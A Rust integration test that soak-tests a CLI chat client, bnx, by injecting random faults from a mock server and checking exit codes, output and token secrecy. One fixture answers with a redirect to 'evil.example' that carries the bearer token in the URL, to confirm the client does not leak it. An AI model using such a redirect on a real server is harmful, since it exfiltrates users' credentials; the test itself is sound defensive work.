//! Chaos soak: many `bnx` runs, 4 at a time, each against its own `bnx-mock` (exec mode) with a
//! random queue of faults, or against an in-test server for the faults the mock does not play
//! (a token echoed back, a Retry-After too long for any clock), streaming or not, JSON or text. For each run the exit code the
//! contract gives is computed from a model of the README's exit codes and retry rules, and the
//! run is checked against it: the exit code, stdout (exact answer, or a prefix when cut), stderr
//! (no panic, at most two lines), and the token nowhere.
//!
//! `cargo test --test integration soak` runs a short version (240 runs). The long one:
//! `SOAK_RUNS=2000 cargo test --release --test integration soak -- --nocapture`
//! (`SOAK_SEED=N` replays a run; `SOAK_JOBS` sets the parallelism).

use std::collections::{BTreeMap, VecDeque};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;
use std::time::{Instant, SystemTime, UNIX_EPOCH};

use crate::util::*;
use serde_json::Value;

const SECRET: &str = "tok-SOAK-SECRET-77";

/// xorshift64*: small, seedable, good enough to pick faults.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

const FAULTS: [&str; 16] = [
    "429:0",
    "429:5",
    "500",
    "502",
    "503",
    "504",
    "html",
    "drop",
    "malformed",
    "cut:0",
    "cut:2",
    "error-event",
    "stall:10",
    "slow:0.05",
    "redirect:http://127.0.0.1:9/x",
    "503",
];

/// Faults the mock does not play, played by an in-test server: a server that echoes the token
/// (in a 401, a 400 with a bare string error, a 503, an SSE error event or a 200 error body, a
/// 307 Location), a Retry-After too large for any clock, and a negative one (counts as absent).
/// A scenario's faults come from one list or the other: each run talks to one server.
const HOSTILE_FAULTS: [&str; 7] = [
    "echo-401",
    "echo-400",
    "echo-503",
    "echo-event",
    "echo-307",
    "429:huge",
    "503:-5",
];

#[derive(Debug, Clone)]
struct Scenario {
    faults: Vec<&'static str>,
    stream: bool,
    json: bool,
    retries: usize,
    wrong_token: bool,
    prompt: String,
}

/// The exit code the contract gives this scenario, and how many requests it takes.
fn expected(s: &Scenario) -> (i32, usize) {
    let mut queue: VecDeque<&str> = s.faults.iter().copied().collect();
    for attempt in 1..=s.retries + 1 {
        let last = attempt == s.retries + 1;
        let retryable = |code| if last { Some((code, attempt)) } else { None };
        let outcome = match queue.pop_front() {
            None | Some("slow:0.05") => Some((if s.wrong_token { 77 } else { 0 }, attempt)),
            Some("429:0") => retryable(75),
            Some("429:5") => Some((75, attempt)),
            Some("500" | "502" | "503" | "504" | "html" | "drop") => retryable(69),
            Some("stall:10") => Some((69, attempt)),
            Some("malformed" | "cut:0" | "cut:2") => Some((76, attempt)),
            Some("error-event") => Some((1, attempt)),
            Some("echo-401") => Some((77, attempt)),
            Some("echo-400" | "echo-event" | "echo-307") => Some((1, attempt)),
            Some("echo-503" | "503:-5") => retryable(69),
            Some("429:huge") => Some((75, attempt)),
            Some(redirect) if redirect.starts_with("redirect") => Some((1, attempt)),
            Some(other) => panic!("no model for {other}"),
        };
        if let Some(outcome) = outcome {
            return outcome;
        }
    }
    unreachable!("the last attempt always decides")
}

fn scenario(rng: &mut Rng) -> Scenario {
    let list: &[&'static str] = if rng.below(3) == 0 {
        &HOSTILE_FAULTS
    } else {
        &FAULTS
    };
    let faults = (0..rng.below(4))
        .map(|_| list[rng.below(list.len())])
        .collect();
    let words = [
        "alpha",
        "beta",
        "γάμμα",
        "déjà",
        "vu",
        "😀",
        "line\nbreak",
        "\"quoted\"",
        "tab\tbed",
    ];
    let prompt = (0..1 + rng.below(6))
        .map(|_| words[rng.below(words.len())])
        .collect::<Vec<_>>()
        .join(" ");
    Scenario {
        faults,
        stream: rng.below(2) == 0,
        json: rng.below(2) == 0,
        retries: rng.below(3),
        wrong_token: rng.below(12) == 0,
        prompt,
    }
}

/// Runs one scenario; returns the problems found (none when it behaved).
fn check(s: &Scenario, home: &std::path::Path) -> Vec<String> {
    let hostile = s.faults.iter().any(|f| HOSTILE_FAULTS.contains(f));
    let mut cmd = if hostile {
        let mut bnx = isolated(BNX, home);
        bnx.env("BLUENEXUS_BASE_URL", hostile_server(s.faults.clone()))
            .env("BLUENEXUS_TOKEN", SECRET);
        bnx
    } else {
        let mut mock = isolated(BNX_MOCK, home);
        mock.args(["--token", SECRET, "--rate-limit", "0"]);
        for fault in &s.faults {
            mock.args(["--fault", fault]);
        }
        mock.args(["--", BNX]);
        mock
    };
    // A timeout short enough that `stall:10` ends soon, long enough that a machine busy with
    // the rest of the suite never turns a prompt answer into a timeout (retried: another code).
    cmd.args(["-q", "--timeout", "4", "--max-retry-wait", "0", "--retries"])
        .arg(s.retries.to_string());
    if s.wrong_token {
        cmd.args(["--token-cmd", "echo wrong-token"]);
    }
    if s.stream {
        cmd.arg("-s");
    }
    if s.json {
        cmd.arg("--json");
    }
    cmd.arg("--").arg(&s.prompt);
    let output = cmd.output().expect("bnx-mock runs");
    let (code, _) = expected(s);
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    let answer = format!("[turn 1] {}", s.prompt);
    let mut problems = Vec::new();
    let mut fail = |what: String| problems.push(what);
    if output.status.code() != Some(code) {
        fail(format!("exit {:?}, expected {code}", output.status.code()));
    }
    if stderr.contains("panicked") || stderr.lines().count() > 2 {
        fail(format!("stderr: {stderr:?}"));
    }
    if !stderr
        .lines()
        .all(|l| l.starts_with("bnx: error: ") || l.starts_with("hint: "))
    {
        fail(format!("stderr lines: {stderr:?}"));
    }
    if (code == 0) != stderr.is_empty() {
        fail(format!("stderr {stderr:?} for exit {code}"));
    }
    if stdout.contains("SECRET") || stderr.contains("SECRET") {
        fail("the token was printed".into());
    }
    let lines: Vec<Value> = if s.json {
        match stdout
            .lines()
            .map(serde_json::from_str)
            .collect::<Result<Vec<Value>, _>>()
        {
            Ok(lines) => lines,
            Err(e) => {
                fail(format!("stdout is not JSON lines ({e}): {stdout:?}"));
                return problems;
            }
        }
    } else {
        Vec::new()
    };
    match (code, s.json, s.stream) {
        (0, false, _) => {
            if stdout != format!("{answer}\n") {
                fail(format!("stdout {stdout:?}, expected the answer {answer:?}"));
            }
        }
        (0, true, false) => {
            let doc = &lines[0];
            if lines.len() != 1
                || doc["choices"][0]["message"]["content"] != answer.as_str()
                || doc["bnx"]["status"] != 200
            {
                fail(format!("JSON answer: {stdout}"));
            }
        }
        (0, true, true) => {
            let text: String = lines
                .iter()
                .filter_map(|l| l["choices"][0]["delta"]["content"].as_str())
                .collect();
            if text != answer || lines.last().unwrap()["bnx"]["done"] != true {
                fail(format!("JSON stream: {stdout}"));
            }
        }
        (_, false, _) => {
            if !answer.starts_with(stdout.as_str()) {
                fail(format!("stdout {stdout:?} is not a prefix of {answer:?}"));
            }
        }
        (_, true, _) => {
            let last = lines.last();
            if last.is_none_or(|l| l.get("error").is_none() || l.get("bnx").is_none()) {
                fail(format!("no JSON failure document last: {stdout}"));
            }
            let waited_forever = s.faults.get(expected(s).1 - 1) == Some(&"429:huge");
            if waited_forever && last.unwrap()["bnx"]["retry_after"].as_f64() != Some(1e300) {
                fail(format!("retry_after is not 1e300: {stdout}"));
            }
        }
    }
    problems
}

/// A server for one scenario's hostile faults, one per request in order, then answers as the
/// mock would (`[turn 1] PROMPT`, whole or streamed as asked) to the right token.
fn hostile_server(faults: Vec<&'static str>) -> String {
    let mut faults = VecDeque::from(faults);
    let server = Scripted::answering(move |request| {
        let body = request.json();
        let token = request
            .header("authorization")
            .unwrap_or("")
            .trim_start_matches("Bearer ");
        let stream_asked = body["stream"] == true;
        let prompt = body["messages"]
            .as_array()
            .and_then(|m| m.last())
            .map_or("", |m| m["content"].as_str().unwrap_or(""));
        let answer = format!("[turn 1] {prompt}");
        let json_type = "Content-Type: application/json\r\n";
        let echo = json!({"error": {"message": format!("refused Bearer {token}"), "type": "x"}})
            .to_string();
        match faults.pop_front() {
            Some("echo-401") => http("401 Unauthorized", json_type, &echo),
            Some("echo-400") => http(
                "400 Bad Request",
                json_type,
                &json!({"error": format!("bad {token}")}).to_string(),
            ),
            Some("echo-503") => http("503 Service Unavailable", json_type, &echo),
            Some("echo-event") if stream_asked => sse_answer(&answer, Some(&echo)),
            Some("echo-event") => http("200 OK", json_type, &echo),
            Some("echo-307") => http(
                "307 Temporary Redirect",
                &format!("Location: https://evil.example/?t={token}\r\n"),
                "",
            ),
            Some("429:huge") => http("429 Too Many Requests", "Retry-After: 1e300\r\n", ""),
            Some("503:-5") => http("503 Service Unavailable", "Retry-After: -5\r\n", ""),
            Some(other) => panic!("no hostile fault {other}"),
            None if token != SECRET => http(
                "401 Unauthorized",
                json_type,
                r#"{"error":{"message":"bad token","type":"auth"}}"#,
            ),
            None if stream_asked => sse_answer(&answer, None),
            None => {
                let doc = json!({"object": "chat.completion", "choices": [{"index": 0,
                    "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}]});
                http("200 OK", json_type, &doc.to_string())
            }
        }
    });
    server.origin
}

/// The answer streamed in two pieces, or its first piece then `error` as an SSE event.
fn sse_answer(answer: &str, error: Option<&str>) -> Vec<u8> {
    let half = answer
        .char_indices()
        .nth(answer.chars().count() / 2)
        .map_or(0, |(i, _)| i);
    let chunk =
        |text: &str| json!({"choices": [{"index": 0, "delta": {"content": text}}]}).to_string();
    let mut events = vec![chunk(&answer[..half])];
    match error {
        Some(error) => events.push(error.to_string()),
        None => {
            events.push(chunk(&answer[half..]));
            events.push(r#"{"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}"#.into());
            events.push("[DONE]".into());
        }
    }
    sse(&events.iter().map(String::as_str).collect::<Vec<_>>())
}

#[test]
fn chaos_soak() {
    let runs: usize = std::env::var("SOAK_RUNS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(240);
    let jobs: usize = std::env::var("SOAK_JOBS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4);
    let seed: u64 = std::env::var("SOAK_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| {
            SystemTime::now()
                .duration_since(UNIX_EPOCH)
                .unwrap()
                .as_nanos() as u64
                | 1
        });
    let mut rng = Rng(seed);
    let scenarios: Vec<Scenario> = (0..runs).map(|_| scenario(&mut rng)).collect();
    let next = AtomicUsize::new(0);
    let failures = Mutex::new(Vec::new());
    let started = Instant::now();
    std::thread::scope(|scope| {
        for _ in 0..jobs {
            scope.spawn(|| {
                let home = tempfile::tempdir().unwrap();
                loop {
                    let i = next.fetch_add(1, Ordering::SeqCst);
                    let Some(s) = scenarios.get(i) else { break };
                    let problems = check(s, home.path());
                    if !problems.is_empty() {
                        failures
                            .lock()
                            .unwrap()
                            .push(format!("run {i} {s:?}: {}", problems.join("; ")));
                    }
                }
            });
        }
    });
    let mut by_fault: BTreeMap<&str, usize> = BTreeMap::new();
    let mut by_exit: BTreeMap<i32, usize> = BTreeMap::new();
    for s in &scenarios {
        for fault in &s.faults {
            *by_fault.entry(fault).or_default() += 1;
        }
        if s.faults.is_empty() {
            *by_fault.entry("(none)").or_default() += 1;
        }
        *by_exit.entry(expected(s).0).or_default() += 1;
    }
    let failures = failures.into_inner().unwrap();
    println!(
        "soak: {runs} runs, {jobs} at a time, seed {seed}, {:.1} s; {} failures",
        started.elapsed().as_secs_f64(),
        failures.len()
    );
    println!("soak: faults injected {by_fault:?}");
    println!("soak: exit codes {by_exit:?}");
    for failure in &failures {
        println!("FAIL {failure}");
    }
    assert!(
        failures.is_empty(),
        "{} of {runs} runs misbehaved (seed {seed}); see above",
        failures.len()
    );
}

#[test]
fn the_model_matches_the_contract_on_known_cases() {
    let base = Scenario {
        faults: vec![],
        stream: false,
        json: false,
        retries: 2,
        wrong_token: false,
        prompt: "x".into(),
    };
    let with = |faults: Vec<&'static str>, retries| Scenario {
        faults,
        retries,
        ..base.clone()
    };
    assert_eq!(expected(&with(vec![], 2)), (0, 1));
    assert_eq!(expected(&with(vec!["503", "429:0"], 2)), (0, 3));
    assert_eq!(expected(&with(vec!["503", "429:0"], 1)), (75, 2));
    assert_eq!(expected(&with(vec!["503"], 0)), (69, 1));
    assert_eq!(expected(&with(vec!["429:5"], 2)), (75, 1));
    assert_eq!(expected(&with(vec!["drop", "cut:2"], 2)), (76, 2));
    assert_eq!(
        expected(&with(vec!["redirect:http://127.0.0.1:9/x"], 2)),
        (1, 1)
    );
    assert_eq!(expected(&with(vec!["429:huge"], 2)), (75, 1));
    assert_eq!(expected(&with(vec!["503:-5", "echo-503"], 2)), (0, 3));
    assert_eq!(expected(&with(vec!["503:-5", "echo-401"], 2)), (77, 2));
    assert_eq!(expected(&with(vec!["echo-event"], 2)), (1, 1));
}
